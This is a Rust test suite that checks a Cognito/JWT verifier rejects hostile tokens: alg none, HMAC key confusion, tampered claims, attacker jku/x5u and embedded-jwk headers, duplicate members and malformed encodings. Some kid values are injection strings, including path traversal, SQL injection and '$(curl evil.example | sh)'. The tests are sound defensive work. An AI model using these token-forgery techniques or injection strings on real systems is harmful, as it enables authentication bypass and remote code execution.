//! Hostile tokens, one table: every row names an attack from
//! `threats.md`, the token that carries it, and the exact [`Error`] the
//! verifier must answer with. A second table holds the tokens that must pass,
//! so the suite cannot be satisfied by a verifier that rejects everything.
//!
//! Every row runs against real verifiers built over the testkit's JWKS server
//! (keys fetched over loopback HTTP), with a [`ManualClock`] so the `now` in
//! time errors is exact.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use cognito_jwt::{
    Algorithm, ClaimError, Clock, Error, ErrorClass, HeaderError, Issuer, JwksOptions,
    MalformedToken, ManualClock, Segment, SystemClock, TokenUse, Verifier,
};
use cognito_jwt_testkit::{
    Alg, DEFAULT_CLIENT_ID, JwkOptions, JwksServer, SigningKey, TestIssuer, TokenBuilder,
};
use serde_json::{Value, json};

const ISS: &str = "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_TestPool1";
const ISS_NEW: &str = "https://issuer-cognito-idp.us-east-1.amazonaws.com/us-east-1_TestPool1";
const POOL: &str = "us-east-1_TestPool1";
const POOL_B: &str = "eu-west-1_OtherPool";
const ISS_B: &str = "https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_OtherPool";
const GENERIC_ISS: &str = "https://login.example.com";
const API_AUDIENCE: &str = "https://api.example.com/orders";
const NUMERIC_DATE: &str = "a NumericDate: seconds since 1970 between 0 and 253402300799";
const MAX_TOKEN: usize = 16 * 1024;
/// The P-256 group order n.
const P256_N: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// Which verifier a row runs against.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum V {
    /// Cognito pool, access tokens only, the testkit client only.
    Access,
    /// Same pool, ID tokens only.
    Id,
    /// Same pool, access tokens bound to [`API_AUDIENCE`] (RFC 8707).
    Aud,
    /// A generic issuer allowing RS256, RS512, PS256, ES256 and EdDSA.
    Generic,
    /// Two Cognito pools, each with its own JWKS server.
    Multi,
    /// [`V::Access`] with no leeway at all, where a fraction of a second shows.
    NoLeeway,
}

struct Verifiers {
    access: Verifier,
    id: Verifier,
    aud: Verifier,
    generic: Verifier,
    multi: Verifier,
    no_leeway: Verifier,
}

impl Verifiers {
    fn get(&self, v: V) -> &Verifier {
        match v {
            V::Access => &self.access,
            V::Id => &self.id,
            V::Aud => &self.aud,
            V::Generic => &self.generic,
            V::Multi => &self.multi,
            V::NoLeeway => &self.no_leeway,
        }
    }
}

struct Row {
    name: String,
    verifier: V,
    token: String,
    expected: Error,
}

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn segment(token: &str, i: usize) -> &str {
    token.split('.').nth(i).unwrap()
}

fn signature_of(token: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(segment(token, 2)).unwrap()
}

fn with_segment(token: &str, i: usize, new: &str) -> String {
    let mut parts: Vec<&str> = token.split('.').collect();
    parts[i] = new;
    parts.join(".")
}

/// Insert `what` in the middle of segment `i`.
fn inject(token: &str, i: usize, what: &str) -> String {
    let s = segment(token, i);
    let mid = s.len() / 2;
    with_segment(token, i, &format!("{}{what}{}", &s[..mid], &s[mid..]))
}

/// A token signed by `key` over exactly these header and payload bytes.
fn sign_raw(key: &SigningKey, header: &[u8], payload: &[u8]) -> String {
    let input = format!("{}.{}", b64(header), b64(payload));
    let sig = key.sign(input.as_bytes());
    format!("{input}.{}", b64(&sig))
}

/// A token "signed" with HMAC using `secret` (for example the RSA public key).
fn hmac_token(alg: &str, kid: &str, payload: &str, secret: &[u8]) -> String {
    use aws_lc_rs::hmac;
    let algorithm = match alg {
        "HS256" => hmac::HMAC_SHA256,
        "HS384" => hmac::HMAC_SHA384,
        _ => hmac::HMAC_SHA512,
    };
    let header = format!(r#"{{"kid":"{kid}","alg":"{alg}"}}"#);
    let input = format!("{}.{}", b64(header.as_bytes()), b64(payload.as_bytes()));
    let tag = hmac::sign(&hmac::Key::new(algorithm, secret), input.as_bytes());
    format!("{input}.{}", b64(tag.as_ref()))
}

/// Sign with `key` and make the header name it (kid and alg).
fn signed_by(builder: TokenBuilder, key: &SigningKey) -> TokenBuilder {
    builder.sign_with(key).kid(key.kid()).alg(key.alg())
}

/// Put a duplicate of `name` (with this JSON value) in front of the builder's claims.
fn duplicate_claim(builder: TokenBuilder, name: &str, value: &str) -> TokenBuilder {
    let payload = builder.payload_json();
    let json = format!("{{\"{name}\":{value},{}", &payload[1..]);
    builder.raw_payload_json(json)
}

/// DER-encode a fixed-length ECDSA `R || S` signature.
fn ecdsa_der(fixed: &[u8]) -> Vec<u8> {
    fn int(bytes: &[u8]) -> Vec<u8> {
        let first = bytes
            .iter()
            .position(|b| *b != 0)
            .unwrap_or(bytes.len() - 1);
        let mut v = bytes[first..].to_vec();
        if v[0] & 0x80 != 0 {
            v.insert(0, 0);
        }
        let mut out = vec![0x02, v.len() as u8];
        out.extend(v);
        out
    }
    let (r, s) = fixed.split_at(fixed.len() / 2);
    let body: Vec<u8> = [int(r), int(s)].concat();
    let mut out = vec![0x30, body.len() as u8];
    out.extend(body);
    out
}

/// Set the unused low bits of the last base64url character (non-canonical encoding).
fn noncanonical_last_char(seg: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = *seg.as_bytes().last().unwrap();
    let index = ALPHABET.iter().position(|c| *c == last).unwrap();
    format!("{}{}", &seg[..seg.len() - 1], ALPHABET[index | 1] as char)
}

fn mal(m: MalformedToken) -> Error {
    Error::Malformed(m)
}
fn hdr(h: HeaderError) -> Error {
    Error::Header(h)
}
fn claim(c: ClaimError) -> Error {
    Error::Claim(c)
}
fn not_allowed(alg: &str) -> Error {
    hdr(HeaderError::AlgorithmNotAllowed { alg: alg.into() })
}
fn unknown(kid: &str) -> Error {
    Error::UnknownKey { kid: kid.into() }
}
fn dup(segment: Segment, name: &str) -> Error {
    mal(MalformedToken::DuplicateMember {
        segment,
        name: name.into(),
    })
}
fn invalid(claim_name: &'static str, expected: &'static str) -> Error {
    claim(ClaimError::Invalid {
        claim: claim_name,
        expected,
    })
}
fn untrusted(iss: &str) -> Error {
    claim(ClaimError::UntrustedIssuer { iss: iss.into() })
}
fn wrong_use(expected: &'static str, actual: &str) -> Error {
    claim(ClaimError::WrongTokenUse {
        expected,
        actual: actual.into(),
    })
}
fn client_not_allowed(id: &str) -> Error {
    claim(ClaimError::ClientNotAllowed {
        client_id: id.into(),
    })
}

/// Everything the tables need: issuers, keys, servers and verifiers.
struct World {
    now: i64,
    pool: TestIssuer,
    pool_b: TestIssuer,
    generic: TestIssuer,
    attacker: SigningKey,
    ec_on_pool: SigningKey,
    weak: SigningKey,
    enc_key: SigningKey,
    ops_key: SigningKey,
    rs512_on_pool: SigningKey,
    hmac_secret: Vec<u8>,
    g_ec: SigningKey,
    g_ed: SigningKey,
    g_ps: SigningKey,
    g_rs512: SigningKey,
    _servers: Vec<JwksServer>,
    verifiers: Verifiers,
}

impl World {
    fn new() -> World {
        let now = SystemClock.now();
        let clock = ManualClock::new(now);

        // Pool A publishes its real key plus every kind of key that must be skipped.
        let pool = TestIssuer::cognito();
        let real = pool.current_key();
        let ec_on_pool = SigningKey::ec_p256("ec-key");
        let weak = SigningKey::weak_rsa_1024("weak-1024");
        let enc_key = SigningKey::rsa("enc-key");
        let ops_key = SigningKey::rsa("ops-key");
        let rs512_on_pool = SigningKey::rsa("rs512-key").with_alg(Alg::RS512);
        let hmac_secret = b"an HMAC secret published as an oct JWK".to_vec();
        let real_n = URL_SAFE_NO_PAD
            .decode(real.public_jwk()["n"].as_str().unwrap())
            .unwrap();
        let pool_jwks = json!({ "keys": [
            real.public_jwk(),
            // An oct key under the real kid: the RSA key came first and keeps the kid.
            { "kty": "oct", "kid": real.kid(), "alg": "HS256", "k": b64(&real_n) },
            weak.public_jwk(),
            enc_key.public_jwk_with(&JwkOptions::default().key_use("enc")),
            ops_key.public_jwk_with(&JwkOptions::default().key_ops(&["encrypt", "sign"])),
            rs512_on_pool.public_jwk(),
            { "kty": "oct", "kid": "hmac-key", "k": b64(&hmac_secret) },
            ec_on_pool.public_jwk(),
        ]});
        let server_a = JwksServer::start(&pool);
        server_a.set_jwks_override(Some(pool_jwks));

        // Pool B: another user pool with its own key and JWKS.
        let pool_b =
            TestIssuer::cognito_pool("eu-west-1", POOL_B).with_key(SigningKey::rsa("pool-b-key"));
        let server_b = JwksServer::start(&pool_b);

        // A generic OpenID provider with EC, Ed25519 and RSA keys pinned to PS256 / RS512.
        let g_ec = SigningKey::ec_p256("ec-1");
        let g_ed = SigningKey::ed25519("ed-1");
        let g_ps = SigningKey::rsa("ps-1").with_alg(Alg::PS256);
        let g_rs512 = SigningKey::rsa("rs512-1").with_alg(Alg::RS512);
        let generic = TestIssuer::with_issuer_url(GENERIC_ISS).with_key(g_ec.clone());
        let server_g = JwksServer::start(&generic);
        server_g.set_jwks_override(Some(json!({ "keys": [
            g_ec.public_jwk(), g_ed.public_jwk(), g_ps.public_jwk(), g_rs512.public_jwk(),
        ]})));

        let pool_issuer = || Issuer::cognito(POOL).jwks_url(server_a.url());
        let access = Verifier::builder(pool_issuer())
            .client_ids([DEFAULT_CLIENT_ID])
            .token_use(TokenUse::Access)
            .clock(clock.clone())
            .disable_token_cache()
            .build()
            .unwrap();
        let id = Verifier::builder(pool_issuer())
            .client_ids([DEFAULT_CLIENT_ID])
            .token_use(TokenUse::Id)
            .clock(clock.clone())
            .disable_token_cache()
            .build()
            .unwrap();
        let aud = Verifier::builder(pool_issuer())
            .client_ids([DEFAULT_CLIENT_ID])
            .token_use(TokenUse::Access)
            .required_audience([API_AUDIENCE])
            .clock(clock.clone())
            .disable_token_cache()
            .build()
            .unwrap();
        let generic_v = Verifier::builder(
            Issuer::url(GENERIC_ISS)
                .jwks_url(server_g.url())
                .algorithms([
                    Algorithm::RS256,
                    Algorithm::RS512,
                    Algorithm::PS256,
                    Algorithm::ES256,
                    Algorithm::EdDSA,
                ]),
        )
        .client_ids([DEFAULT_CLIENT_ID])
        .token_use(TokenUse::Access)
        .clock(clock.clone())
        .disable_token_cache()
        .build()
        .unwrap();
        let multi = Verifier::builder(pool_issuer())
            .issuer(Issuer::cognito(POOL_B).jwks_url(server_b.url()))
            .client_ids([DEFAULT_CLIENT_ID])
            .token_use(TokenUse::Access)
            .clock(clock.clone())
            .disable_token_cache()
            .build()
            .unwrap();
        let no_leeway = Verifier::builder(pool_issuer())
            .client_ids([DEFAULT_CLIENT_ID])
            .token_use(TokenUse::Access)
            .leeway(std::time::Duration::ZERO)
            .clock(clock)
            .disable_token_cache()
            .build()
            .unwrap();

        World {
            now,
            pool,
            pool_b,
            generic,
            attacker: SigningKey::rsa("attacker"),
            ec_on_pool,
            weak,
            enc_key,
            ops_key,
            rs512_on_pool,
            hmac_secret,
            g_ec,
            g_ed,
            g_ps,
            g_rs512,
            _servers: vec![server_a, server_b, server_g],
            verifiers: Verifiers {
                access,
                id,
                aud,
                generic: generic_v,
                multi,
                no_leeway,
            },
        }
    }

    fn access(&self) -> TokenBuilder {
        self.pool.access_token().issued_at(self.now)
    }
    fn id(&self) -> TokenBuilder {
        self.pool.id_token().issued_at(self.now)
    }
    fn machine(&self) -> TokenBuilder {
        self.pool.machine_token().issued_at(self.now)
    }
    fn generic(&self, key: &SigningKey) -> TokenBuilder {
        signed_by(self.generic.access_token().issued_at(self.now), key)
    }
    fn real_key(&self) -> SigningKey {
        self.pool.current_key()
    }
}

fn hostile_rows(w: &World) -> Vec<Row> {
    let now = w.now;
    let mut rows = Vec::new();
    let mut add = |name: &str, verifier: V, token: String, expected: Error| {
        rows.push(Row {
            name: name.to_owned(),
            verifier,
            token,
            expected,
        });
    };
    use V::{Access, Aud, Generic, Id, Multi, NoLeeway};

    // ---- fractions of a second, read toward the stricter side ----
    add(
        "nbf 0.9 s in the future, no leeway (rounded up, not down)",
        NoLeeway,
        w.access().claim("nbf", now as f64 + 0.9).build(),
        claim(ClaimError::NotYetValid { nbf: now + 1, now }),
    );
    add(
        "iat 0.1 s in the future, no leeway",
        NoLeeway,
        w.access().claim("iat", now as f64 + 0.1).build(),
        claim(ClaimError::IssuedInFuture { iat: now + 1, now }),
    );
    add(
        "exp 0.5 s from now, no leeway (rounded down: already expired)",
        NoLeeway,
        w.access().claim("exp", now as f64 + 0.5).build(),
        claim(ClaimError::Expired { exp: now, now }),
    );

    // ---- registered identifiers of the wrong type (a denylist reads them) ----
    for (name, value) in [
        ("jti", json!(12345)),
        ("jti", Value::Null),
        ("jti", json!(["a", "b"])),
        ("jti", json!({ "id": "a" })),
        ("origin_jti", json!(7)),
        ("origin_jti", json!(["a"])),
        ("event_id", json!({ "e": 1 })),
        ("event_id", json!(true)),
    ] {
        let name: &'static str = name;
        add(
            &format!("{name} is {value}"),
            Access,
            w.access().claim(name, value).build(),
            invalid(name, "a string"),
        );
    }

    // ---- the JOSE header is UTF-8 and valid JSON, also where nobody reads it ----
    let payload = URL_SAFE_NO_PAD
        .decode(segment(&w.access().build(), 1))
        .unwrap();
    let kid = w.real_key().kid().to_owned();
    add(
        "header member with a lone surrogate escape",
        Access,
        sign_raw(
            &w.real_key(),
            format!(r#"{{"kid":"{kid}","alg":"RS256","x":"\ud800"}}"#).as_bytes(),
            &payload,
        ),
        mal(MalformedToken::Json(Segment::Header)),
    );
    add(
        "header member with a byte that is not UTF-8",
        Access,
        sign_raw(
            &w.real_key(),
            &[
                format!(r#"{{"kid":"{kid}","alg":"RS256","x":""#).as_bytes(),
                &[0xff, 0xfe],
                br#""}"#,
            ]
            .concat(),
            &payload,
        ),
        mal(MalformedToken::Json(Segment::Header)),
    );
    add(
        "header member name with a lone surrogate escape",
        Access,
        sign_raw(
            &w.real_key(),
            format!(r#"{{"kid":"{kid}","alg":"RS256","\udc00":1}}"#).as_bytes(),
            &payload,
        ),
        mal(MalformedToken::Json(Segment::Header)),
    );

    // ---- ID tokens with several audiences need azp (OIDC Core 3.1.3.7) ----
    add(
        "ID token with aud listing another client and ours, no azp",
        Id,
        w.id()
            .claim("aud", json!(["otherclient", DEFAULT_CLIENT_ID]))
            .build(),
        invalid(
            "aud",
            "one app client (a Cognito ID token names exactly one)",
        ),
    );
    add(
        "ID token with two audiences, azp naming the other client",
        Id,
        w.id()
            .claim("aud", json!(["otherclient", DEFAULT_CLIENT_ID]))
            .claim("azp", "otherclient")
            .build(),
        invalid(
            "aud",
            "one app client (a Cognito ID token names exactly one)",
        ),
    );
    add(
        "Cognito ID token with two audiences, even with azp ours",
        Id,
        w.id()
            .claim("aud", json!(["otherclient", DEFAULT_CLIENT_ID]))
            .claim("azp", DEFAULT_CLIENT_ID)
            .build(),
        invalid(
            "aud",
            "one app client (a Cognito ID token names exactly one)",
        ),
    );
    add(
        "ID token whose azp is not among its audiences",
        Id,
        w.id().claim("azp", "otherclient").build(),
        invalid("azp", "one of the token's audiences"),
    );
    add(
        "ID token with azp of the wrong type",
        Id,
        w.id().claim("azp", json!([DEFAULT_CLIENT_ID])).build(),
        invalid("azp", "a string"),
    );

    // ---- alg: none in any case, HMAC, algorithm confusion ----
    add(
        "alg none, unsigned",
        Access,
        w.access().alg("none").unsigned().build(),
        mal(MalformedToken::EmptySegment(Segment::Signature)),
    );
    for alg in ["none", "None", "NONE", "nOnE"] {
        add(
            &format!("alg {alg} with a signature"),
            Access,
            w.access().alg(alg).build(),
            not_allowed(alg),
        );
    }
    add(
        "alg rs256 (lower case)",
        Access,
        w.access().alg("rs256").build(),
        not_allowed("rs256"),
    );
    add(
        "alg 'RS256 ' (trailing space)",
        Access,
        w.access().alg("RS256 ").build(),
        not_allowed("RS256 "),
    );
    let real = w.real_key();
    let jwk_text = real.public_jwk().to_string();
    let n_bytes = URL_SAFE_NO_PAD
        .decode(real.public_jwk()["n"].as_str().unwrap())
        .unwrap();
    let payload = w.access().payload_json();
    add(
        "HS256 keyed with the RSA public JWK text",
        Access,
        hmac_token("HS256", real.kid(), &payload, jwk_text.as_bytes()),
        not_allowed("HS256"),
    );
    add(
        "HS384 keyed with the RSA modulus",
        Access,
        hmac_token("HS384", real.kid(), &payload, &n_bytes),
        not_allowed("HS384"),
    );
    add(
        "HS512 keyed with the RSA modulus",
        Access,
        hmac_token("HS512", real.kid(), &payload, &n_bytes),
        not_allowed("HS512"),
    );
    add(
        "HS256 keyed with a published oct JWK",
        Access,
        hmac_token("HS256", "hmac-key", &payload, &w.hmac_secret),
        not_allowed("HS256"),
    );
    add(
        "RS256 header, ES256 signature under the real kid",
        Access,
        w.access().sign_with(&w.ec_on_pool).build(),
        Error::InvalidSignature,
    );
    add(
        "ES256 on a Cognito issuer (RS256 pinned)",
        Access,
        signed_by(w.access(), &w.ec_on_pool).build(),
        not_allowed("ES256"),
    );
    add(
        "PS256 on a Cognito issuer (RS256 pinned)",
        Access,
        w.access()
            .sign_with(&real.clone().with_alg(Alg::PS256))
            .alg("PS256")
            .build(),
        not_allowed("PS256"),
    );
    add(
        "RS512 on a Cognito issuer (RS256 pinned)",
        Access,
        signed_by(w.access(), &w.rs512_on_pool).build(),
        not_allowed("RS512"),
    );
    add(
        "alg missing",
        Access,
        w.access().remove_header("alg").build(),
        hdr(HeaderError::MissingAlgorithm),
    );
    add(
        "alg is a number",
        Access,
        w.access().header("alg", 256).build(),
        hdr(HeaderError::MissingAlgorithm),
    );
    add(
        "alg is an array",
        Access,
        w.access().header("alg", json!(["RS256"])).build(),
        hdr(HeaderError::MissingAlgorithm),
    );
    add(
        "alg is null",
        Access,
        w.access().header("alg", Value::Null).build(),
        hdr(HeaderError::MissingAlgorithm),
    );

    // ---- signatures ----
    let good = w.access().build();
    let good_sig = signature_of(&good);
    add(
        "stripped signature (empty segment)",
        Access,
        w.access().unsigned().build(),
        mal(MalformedToken::EmptySegment(Segment::Signature)),
    );
    add(
        "signature truncated by one byte",
        Access,
        w.access()
            .signature_bytes(good_sig[..good_sig.len() - 1].to_vec())
            .build(),
        Error::InvalidSignature,
    );
    add(
        "signature with one extra byte",
        Access,
        w.access()
            .signature_bytes([good_sig.as_slice(), &[0]].concat())
            .build(),
        Error::InvalidSignature,
    );
    add(
        "signature of another token",
        Access,
        with_segment(&good, 2, segment(&w.machine().build(), 2)),
        Error::InvalidSignature,
    );
    add(
        "signature all zeros",
        Access,
        w.access().signature_bytes(vec![0; 256]).build(),
        Error::InvalidSignature,
    );
    add(
        "signature one byte 0x00",
        Access,
        w.access().signature_bytes(vec![0]).build(),
        Error::InvalidSignature,
    );
    add(
        "signature with non-canonical trailing bits",
        Access,
        with_segment(&good, 2, &noncanonical_last_char(segment(&good, 2))),
        mal(MalformedToken::Base64(Segment::Signature)),
    );
    add(
        "header and payload of one token, signature of an ID token",
        Access,
        with_segment(&good, 2, segment(&w.id().build(), 2)),
        Error::InvalidSignature,
    );
    add(
        "tampered sub",
        Access,
        w.access().tamper_payload().build(),
        Error::InvalidSignature,
    );
    add(
        "tampered scope",
        Access,
        w.access().tamper_claim("scope", "orders/admin").build(),
        Error::InvalidSignature,
    );
    add(
        "tampered token_use (id -> access)",
        Access,
        w.id().tamper_claim("token_use", "access").build(),
        Error::InvalidSignature,
    );
    add(
        "tampered client_id",
        Access,
        w.access().tamper_claim("client_id", "otherclient").build(),
        Error::InvalidSignature,
    );
    add(
        "tampered exp (extended)",
        Access,
        w.access()
            .tamper_claim("exp", now + 10 * 365 * 86_400)
            .build(),
        Error::InvalidSignature,
    );
    add(
        "tampered cognito:groups",
        Access,
        w.access()
            .groups(&["users"])
            .tamper_claim("cognito:groups", json!(["admin"]))
            .build(),
        Error::InvalidSignature,
    );
    add(
        "payload re-encoded with a leading space (same claims, other bytes)",
        Access,
        {
            let b = w.access();
            let p = b.payload_json();
            b.raw_payload_json(p).tamper_payload().build()
        },
        Error::InvalidSignature,
    );
    add(
        "wrong key under the real kid",
        Access,
        w.access().sign_with(&SigningKey::rsa("test-key-1")).build(),
        Error::InvalidSignature,
    );

    // ---- kid ----
    add(
        "unknown kid",
        Access,
        w.access().kid("no-such-key").build(),
        unknown("no-such-key"),
    );
    for kid in [
        "../../../../etc/passwd",
        "/dev/null",
        "' OR '1'='1' --",
        "$(curl evil.example | sh)",
        "test-key-1\u{0}",
        "TEST-KEY-1",
        " test-key-1",
        "https://evil.example/jwks.json#test-key-1",
    ] {
        add(
            &format!("kid {kid:?}"),
            Access,
            w.access().kid(kid).build(),
            unknown(kid),
        );
    }
    add(
        "kid of 257 bytes",
        Access,
        w.access().kid("k".repeat(257)).build(),
        hdr(HeaderError::InvalidKeyId { max: 256 }),
    );
    add(
        "kid of 10000 bytes",
        Access,
        w.access().kid("k".repeat(10_000)).build(),
        hdr(HeaderError::InvalidKeyId { max: 256 }),
    );
    add(
        "kid of 256 bytes (allowed length, unknown; capped in the error)",
        Access,
        w.access().kid("k".repeat(256)).build(),
        unknown(&format!("{}…", "k".repeat(128))),
    );
    add(
        "kid empty",
        Access,
        w.access().kid("").build(),
        hdr(HeaderError::InvalidKeyId { max: 256 }),
    );
    add(
        "kid is a number",
        Access,
        w.access().header("kid", 1).build(),
        hdr(HeaderError::MissingKeyId),
    );
    add(
        "kid is null",
        Access,
        w.access().header("kid", Value::Null).build(),
        hdr(HeaderError::MissingKeyId),
    );
    add(
        "kid is an object (NoSQL operator)",
        Access,
        w.access().header("kid", json!({"$ne": null})).build(),
        hdr(HeaderError::MissingKeyId),
    );
    add(
        "kid missing",
        Access,
        w.access().remove_header("kid").build(),
        hdr(HeaderError::MissingKeyId),
    );

    // ---- key material or key URLs from the token ----
    let attacker = &w.attacker;
    let attacker_jwk = attacker.public_jwk();
    add(
        "jku to an attacker JWKS, attacker kid",
        Access,
        signed_by(w.access(), attacker)
            .header("jku", "https://evil.example/.well-known/jwks.json")
            .build(),
        unknown("attacker"),
    );
    add(
        "jku to an attacker JWKS, real kid",
        Access,
        w.access()
            .sign_with(attacker)
            .header("jku", "https://evil.example/.well-known/jwks.json")
            .build(),
        Error::InvalidSignature,
    );
    add(
        "x5u to an attacker certificate, attacker kid",
        Access,
        signed_by(w.access(), attacker)
            .header("x5u", "https://evil.example/cert.pem")
            .build(),
        unknown("attacker"),
    );
    add(
        "embedded jwk (CVE-2018-0114), attacker kid",
        Access,
        signed_by(w.access(), attacker)
            .header("jwk", attacker_jwk.clone())
            .build(),
        unknown("attacker"),
    );
    add(
        "embedded jwk (CVE-2018-0114), real kid",
        Access,
        w.access()
            .sign_with(attacker)
            .header("jwk", attacker_jwk.clone())
            .build(),
        Error::InvalidSignature,
    );
    add(
        "embedded x5c chain, real kid",
        Access,
        w.access()
            .sign_with(attacker)
            .header("x5c", json!([b64(&attacker.private_pkcs8_der())]))
            .build(),
        Error::InvalidSignature,
    );
    add(
        "jku on the real JWKS host, attacker key",
        Access,
        signed_by(w.access(), attacker)
            .header("jku", format!("{ISS}/.well-known/jwks.json"))
            .build(),
        unknown("attacker"),
    );

    // ---- header extensions ----
    add(
        "crit [exp]",
        Access,
        w.access().header("crit", json!(["exp"])).build(),
        hdr(HeaderError::CriticalExtension),
    );
    add(
        "crit []",
        Access,
        w.access().header("crit", json!([])).build(),
        hdr(HeaderError::CriticalExtension),
    );
    add(
        "b64 false",
        Access,
        w.access()
            .header("b64", false)
            .header("crit", json!(["b64"]))
            .build(),
        hdr(HeaderError::CriticalExtension),
    );
    add(
        "b64 false without crit",
        Access,
        w.access().header("b64", false).build(),
        hdr(HeaderError::UnencodedPayload),
    );
    add(
        "cty JWT (nested token)",
        Access,
        w.access().header("cty", "JWT").build(),
        hdr(HeaderError::NestedToken),
    );
    add(
        "cty jwt (lower case)",
        Access,
        w.access().header("cty", "jwt").build(),
        hdr(HeaderError::NestedToken),
    );
    add(
        "cty not a string",
        Access,
        w.access().header("cty", 1).build(),
        hdr(HeaderError::NestedToken),
    );

    // ---- duplicate members ----
    add(
        "duplicate header alg (RS256 then none)",
        Access,
        w.access()
            .raw_header_json(r#"{"kid":"test-key-1","alg":"RS256","alg":"none"}"#.into())
            .build(),
        dup(Segment::Header, "alg"),
    );
    add(
        "duplicate header alg (none then RS256)",
        Access,
        w.access()
            .raw_header_json(r#"{"alg":"none","kid":"test-key-1","alg":"RS256"}"#.into())
            .build(),
        dup(Segment::Header, "alg"),
    );
    add(
        "duplicate header kid",
        Access,
        w.access()
            .raw_header_json(r#"{"kid":"test-key-1","alg":"RS256","kid":"attacker"}"#.into())
            .build(),
        dup(Segment::Header, "kid"),
    );
    add(
        "duplicate header alg, second one escaped",
        Access,
        w.access()
            .raw_header_json(r#"{"kid":"test-key-1","alg":"RS256","\u0061lg":"HS256"}"#.into())
            .build(),
        dup(Segment::Header, "alg"),
    );
    for (name, value) in [
        ("sub", r#""attacker""#),
        ("token_use", r#""access""#),
        ("client_id", r#""otherclient""#),
        ("exp", "9999999999"),
        ("iss", r#""https://evil.example""#),
        ("scope", r#""orders/admin""#),
        ("cognito:groups", r#"["admin"]"#),
    ] {
        add(
            &format!("duplicate claim {name}"),
            Access,
            duplicate_claim(w.access().groups(&["users"]), name, value).build(),
            dup(Segment::Payload, name),
        );
    }
    add(
        "duplicate claim sub, second one escaped",
        Access,
        {
            let b = w.access();
            let p = b.payload_json();
            b.raw_payload_json(format!(
                "{},\"s\\u0075b\":\"attacker\"}}",
                &p[..p.len() - 1]
            ))
            .build()
        },
        dup(Segment::Payload, "sub"),
    );

    // ---- compact serialisation structure ----
    add(
        "JWE, 5 segments",
        Access,
        format!(
            "{}.{}.{}.{}.{}",
            b64(br#"{"alg":"RSA-OAEP","enc":"A256GCM","kid":"test-key-1"}"#),
            b64(&[7; 256]),
            b64(&[1; 12]),
            b64(b"ciphertext"),
            b64(&[2; 16])
        ),
        mal(MalformedToken::Encrypted),
    );
    add(
        "2 segments (header.payload)",
        Access,
        {
            let t = w.access().build();
            t[..t.rfind('.').unwrap()].to_owned()
        },
        mal(MalformedToken::SegmentCount { found: 2 }),
    );
    add(
        "4 segments",
        Access,
        format!("{good}.{}", segment(&good, 2)),
        mal(MalformedToken::SegmentCount { found: 4 }),
    );
    add(
        "trailing dot",
        Access,
        format!("{good}."),
        mal(MalformedToken::SegmentCount { found: 4 }),
    );
    add(
        "double dot between header and payload",
        Access,
        good.replacen('.', "..", 1),
        mal(MalformedToken::SegmentCount { found: 4 }),
    );
    add(
        "7 segments",
        Access,
        format!("{good}.a.b.c.d"),
        mal(MalformedToken::SegmentCount { found: 7 }),
    );
    add(
        "1 segment",
        Access,
        segment(&good, 0).to_owned(),
        mal(MalformedToken::SegmentCount { found: 1 }),
    );
    add(
        "empty string",
        Access,
        String::new(),
        mal(MalformedToken::SegmentCount { found: 1 }),
    );
    add(
        "only dots",
        Access,
        "..".into(),
        mal(MalformedToken::EmptySegment(Segment::Header)),
    );
    add(
        "empty payload segment",
        Access,
        with_segment(&good, 1, ""),
        mal(MalformedToken::EmptySegment(Segment::Payload)),
    );
    add(
        "padding in the header",
        Access,
        with_segment(&good, 0, &format!("{}=", segment(&good, 0))),
        mal(MalformedToken::Base64(Segment::Header)),
    );
    add(
        "padding in the payload",
        Access,
        with_segment(&good, 1, &format!("{}==", segment(&good, 1))),
        mal(MalformedToken::Base64(Segment::Payload)),
    );
    add(
        "padding in the signature",
        Access,
        with_segment(&good, 2, &format!("{}==", segment(&good, 2))),
        mal(MalformedToken::Base64(Segment::Signature)),
    );
    add(
        "standard base64 '+' in the header",
        Access,
        inject(&good, 0, "+"),
        mal(MalformedToken::Base64(Segment::Header)),
    );
    add(
        "standard base64 '/' in the payload",
        Access,
        inject(&good, 1, "/"),
        mal(MalformedToken::Base64(Segment::Payload)),
    );
    add(
        "standard base64 alphabet for the signature",
        Access,
        with_segment(
            &good,
            2,
            &format!(
                "+{}",
                &segment(&good, 2)[1..].replace('-', "+").replace('_', "/")
            ),
        ),
        mal(MalformedToken::Base64(Segment::Signature)),
    );
    add(
        "newline inside the payload",
        Access,
        inject(&good, 1, "\n"),
        mal(MalformedToken::Base64(Segment::Payload)),
    );
    add(
        "CRLF inside the header",
        Access,
        inject(&good, 0, "\r\n"),
        mal(MalformedToken::Base64(Segment::Header)),
    );
    add(
        "space inside the signature",
        Access,
        inject(&good, 2, " "),
        mal(MalformedToken::Base64(Segment::Signature)),
    );
    add(
        "tab inside the signature",
        Access,
        inject(&good, 2, "\t"),
        mal(MalformedToken::Base64(Segment::Signature)),
    );
    add(
        "trailing newline",
        Access,
        format!("{good}\n"),
        mal(MalformedToken::Base64(Segment::Signature)),
    );
    add(
        "leading space",
        Access,
        format!(" {good}"),
        mal(MalformedToken::Base64(Segment::Header)),
    );
    add(
        "'Bearer ' prefix left on",
        Access,
        format!("Bearer {good}"),
        mal(MalformedToken::Base64(Segment::Header)),
    );
    add(
        "trailing NUL",
        Access,
        format!("{good}\0"),
        mal(MalformedToken::Base64(Segment::Signature)),
    );
    add(
        "non-ASCII character in the payload",
        Access,
        inject(&good, 1, "é"),
        mal(MalformedToken::Base64(Segment::Payload)),
    );
    for (what, json_text) in [
        ("an array", r#"["RS256","test-key-1"]"#),
        ("a string", r#""RS256""#),
        ("a number", "256"),
        ("null", "null"),
        ("true", "true"),
    ] {
        add(
            &format!("header is {what}"),
            Access,
            w.access().raw_header_json(json_text.into()).build(),
            mal(MalformedToken::NotAnObject(Segment::Header)),
        );
    }
    add(
        "header is not JSON",
        Access,
        w.access().raw_header_json("{alg:RS256}".into()).build(),
